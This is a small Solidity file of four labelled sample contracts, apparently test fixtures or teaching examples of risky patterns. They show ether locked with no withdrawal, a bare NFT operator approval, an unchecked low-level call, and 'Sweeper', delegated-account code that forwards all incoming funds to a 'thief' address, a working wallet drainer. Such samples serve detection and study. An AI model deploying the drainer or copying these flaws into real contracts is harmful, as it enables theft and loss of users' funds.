// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.0;

/// Takes coins in, notes nothing, and does other things besides.
contract Chest {
    uint256 public opened;
    address public keeper;

    constructor() {
        keeper = msg.sender;
    }

    receive() external payable {}

    function open(uint256 times) external {
        require(msg.sender == keeper, "not the keeper");
        for (uint256 i = 0; i < times; i++) {
            opened += i;
        }
    }
}

/// An NFT collection, as far as permissions go.
contract Collection {
    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);

    mapping(address => mapping(address => bool)) public isApprovedForAll;

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
        emit ApprovalForAll(msg.sender, operator, approved);
    }
}

/// Goes on when a call inside fails.
contract Careless {
    uint256 public tries;

    function attempt(address target, bytes calldata data) external {
        (bool ok, ) = target.call(data);
        tries += ok ? 2 : 1;
    }
}

/// Code for a delegated account: sends on whatever arrives.
contract Sweeper {
    address payable public immutable thief;

    constructor(address payable to) {
        thief = to;
    }

    receive() external payable {
        (bool ok, ) = thief.call{value: msg.value}("");
        require(ok);
    }
}
